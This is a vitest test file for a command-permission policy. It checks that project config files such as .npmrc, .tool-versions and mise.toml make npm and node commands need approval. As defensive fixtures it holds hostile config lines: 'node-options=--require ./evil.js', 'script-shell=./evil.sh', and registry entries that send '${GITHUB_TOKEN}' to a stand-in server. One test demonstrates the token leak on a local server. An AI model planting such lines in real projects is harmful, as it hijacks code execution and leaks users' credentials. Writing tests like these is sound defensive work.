import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { dirname, join } from "node:path";
import { afterAll, afterEach, describe, expect, it } from "vitest";
import { PERMISSION_MODES } from "@/permissions/modes.ts";
import { policyBench } from "../support/policyBench.ts";

const bench = policyBench();
afterAll(() => bench[Symbol.dispose]());

const made: string[] = [];
afterEach(() => {
  for (const path of made.splice(0)) rmSync(path, { recursive: true, force: true });
});

function put(path: string, text: string): void {
  made.push(path);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text, { mode: 0o755 });
}

/** The modes in which the line needs no question, of those that know any. */
const silentModes = (line: string) =>
  PERMISSION_MODES.filter(
    (mode) => mode !== "bypassPermissions" && bench.decide(line, { mode }).decision === "allow",
  );

const LISTS = ["npm ls", "npm ls --depth=0 --json", "npm run", "npm run-script", "cd src && npm list"];
const VERSIONS = ["npm --version", "npm -v", "npx --version", "cd src && npx -v"];
const npmrc = join(bench.project, ".npmrc");

describe("a project's .npmrc", () => {
  const writing = [
    "logs-dir=../../outside\n",
    "cache = /tmp/outside\n",
    "logs-dir[]=x\n",
    "; a note\nsave-exact=true\ntiming=true\n",
    '"logs-dir"=x\n',
    "${X}=x\n",
    "save-exact=true\rlogs-dir=x\n",
    "[section]\nlogs-dir=x\n",
    "userconfig=./other\n",
    "globalconfig=./other\n",
    "prefix=./other\n",
    "node-options=--require ./evil.js\n",
    "script-shell=./evil.sh\n",
    "https-proxy=http://localhost:1\nstrict-ssl=false\n",
    "cafile=./ca.pem\n",
    "git=./evil\n",
  ];
  const sending = [
    "registry=http://localhost:1/\n//localhost:1/:_authToken=${GITHUB_TOKEN}\n",
    "@scope:registry=https://localhost/\n",
    "//localhost/:_password=${SECRET}\n",
    "registry = https://localhost/\n",
    "//localhost:1/npm/:_auth=${X}\nalways-auth=true\n",
  ];

  it.each(writing)("has npm asked about when it may have it write or run something: %j (G33)", (text) => {
    put(npmrc, text);
    for (const line of [...LISTS, ...VERSIONS]) expect([line, silentModes(line)]).toEqual([line, []]);
  });

  it.each(sending)("has a listing asked about when it names a registry: %j (G33)", (text) => {
    put(npmrc, text);
    for (const line of LISTS) expect([line, silentModes(line)]).toEqual([line, []]);
    for (const line of VERSIONS) expect([line, bench.decide(line).decision]).toEqual([line, "allow"]);
  });

  it.each([
    "save-exact=true\nengine-strict=true\n",
    "# for everybody\r\nlegacy-peer-deps = true\r\n\r\nfund=false\r\n",
    "auto-install-peers=true\nshamefully-hoist=true\npublic-hoist-pattern[]=*types*\n",
    "",
  ])("does no harm with settings about installing: %j (G33)", (text) => {
    put(npmrc, text);
    for (const line of [...LISTS, ...VERSIONS])
      expect([line, bench.decide(line).decision]).toEqual([line, "allow"]);
  });

  it("counts where npm finds it: above the folder, behind a link, and not as one of the person's own (G33)", () => {
    put(join(bench.project, "../.npmrc"), "logs-dir=x\n");
    expect(bench.decide("npm -v").decision).toBe("ask");
    rmSync(join(bench.project, "../.npmrc"));
    put(join(bench.project, "src/.npmrc"), "logs-dir=x\n");
    expect(bench.decide("npm -v").decision).toBe("allow");
    expect(bench.decide("cd src; npm -v").decision).toBe("ask");
    put(join(bench.project, "../user/.npmrc"), "registry=https://localhost/\n");
    expect(bench.decide("npm -v").decision).toBe("allow");
    put(join(bench.project, "../other"), "logs-dir=x\n");
    symlinkSync("../other", npmrc);
    made.push(npmrc);
    expect(bench.decide("npm -v").decision).toBe("ask");
  });

  it("that is no file is asked about and not waited for (G33, G37)", () => {
    execFileSync("mkfifo", [npmrc]);
    made.push(npmrc);
    expect(bench.decide("npm ls").decision).toBe("ask");
    rmSync(npmrc);
    mkdirSync(npmrc);
    expect(bench.decide("npm ls").decision).toBe("ask");
  });

  it("would send a token to a stranger's server with every listing, which is why (G33)", async () => {
    const seen: (string | undefined)[] = [];
    const server = createServer((request, response) => {
      seen.push(request.headers.authorization);
      response.end(JSON.stringify({ name: "npm", "dist-tags": { latest: "1.0.0" }, versions: {} }));
    });
    server.listen(0, "127.0.0.1");
    await once(server, "listening");
    try {
      const at = `127.0.0.1:${(server.address() as AddressInfo).port}/`;
      const logs = join(bench.project, "../logs");
      const update = "update-notifier=true\n";
      put(npmrc, `registry=http://${at}\n//${at}:_authToken=\${GITHUB_TOKEN}\nlogs-dir=${logs}\n${update}`);
      const env = { PATH: process.env["PATH"], HOME: join(bench.project, "../user"), GITHUB_TOKEN: "secret" };
      // npm does not wait for the answer, so it may be gone before it has asked.
      for (let tries = 0; tries < 5 && seen.length === 0; tries++)
        await once(spawn("npm", ["ls"], { cwd: bench.project, env, stdio: "ignore" }), "close");
      expect([seen, existsSync(logs)]).toEqual([["Bearer secret"], true]);
      expect(bench.decide("npm ls").decision).toBe("ask");
    } finally {
      server.close();
    }
  });
});

describe("a program that looks in the project which program is meant", () => {
  const installed = join(bench.project, "../installed");
  /** `name` on the PATH, as a manager of versions puts it there. */
  function onPath(name: string, manager: "asdf" | "mise" | "volta-shim" | "corepack" | "none"): void {
    const folder = manager === "asdf" ? join(installed, "shims") : join(installed, "bin");
    mkdirSync(folder, { recursive: true });
    made.push(installed);
    const real = manager === "corepack" ? "corepack/dist/npm.js" : manager;
    if (manager === "asdf" || manager === "none") put(join(folder, name), "#!/bin/sh\n");
    else {
      put(join(installed, real), "#!/bin/sh\n");
      symlinkSync(join(installed, real), join(folder, name));
    }
    bench.session.env["PATH"] = `${folder}:${PATH}`;
  }
  const PATH = bench.session.env["PATH"] ?? "";
  afterEach(() => void (bench.session.env["PATH"] = PATH));

  const rows: [Parameters<typeof onPath>[1], string, string, string, string, "allow" | "ask"][] = [
    ["asdf", "node", "node --version", ".tool-versions", "nodejs path:./evil\n", "ask"],
    ["asdf", "node", "node --version", ".tool-versions", "nodejs ref:main\n", "ask"],
    ["asdf", "jq", "jq . package.json", ".tool-versions", "jq path:./evil\n", "ask"],
    ["asdf", "python3", "python3 --version", ".python-version", "../../project/evil\n", "ask"],
    ["asdf", "node", "node --version", "mise.toml", "[tools]\nnode = 'path:evil'\n", "ask"],
    ["asdf", "node", "node --version", ".tool-versions", "nodejs 20.1.0 # lts\npython 3.12.1\n", "allow"],
    ["asdf", "python3", "python3 --version", ".python-version", "3.12\n", "allow"],
    ["asdf", "node", "node --version", "notes.txt", "path:./evil\n", "allow"],
    ["mise", "node", "node --version", "mise.toml", "[env]\n_.source = './evil.sh'\n", "ask"],
    ["mise", "node", "node --version", ".tool-versions", "node 99.0.0\n", "ask"],
    ["mise", "jq", "jq . package.json", ".config/mise/config.toml", "", "ask"],
    ["mise", "node", "node --version", "notes.txt", "", "allow"],
    ["volta-shim", "node", "node --version", "package.json", '{"volta":{"node":"1.0.0"}}\n', "ask"],
    ["volta-shim", "node", "node --version", "package.json", '{"name":"a"}\n', "allow"],
    ["corepack", "npm", "npm --version", "package.json", '{"packageManager":"npm@1.0.0"}\n', "ask"],
    ["corepack", "npm", "npm ls", ".corepack.env", "COREPACK_NPM_REGISTRY=http://localhost/\n", "ask"],
    ["corepack", "npm", "npm --version", "package.json", '{"name":"a"}\n', "allow"],
    ["none", "node", "node --version", ".tool-versions", "nodejs path:./evil\n", "allow"],
    ["none", "npm", "npm --version", "package.json", '{"packageManager":"npm@1.0.0"}\n', "allow"],
  ];
  it.each(rows)(
    "of the kind %s: %s, %j with %s %j: %s (G16, G33)",
    (manager, name, line, file, text, decision) => {
      onPath(name, manager);
      put(join(bench.project, "package.json"), "{}\n");
      put(join(bench.project, file), text);
      expect(bench.decide(line).decision).toBe(decision);
      expect(bench.decide(`cd src && ${line.replace("package.json", "app.ts")}`).decision).toBe(decision);
      if (decision === "ask") expect(silentModes(line)).toEqual([]);
    },
  );
});
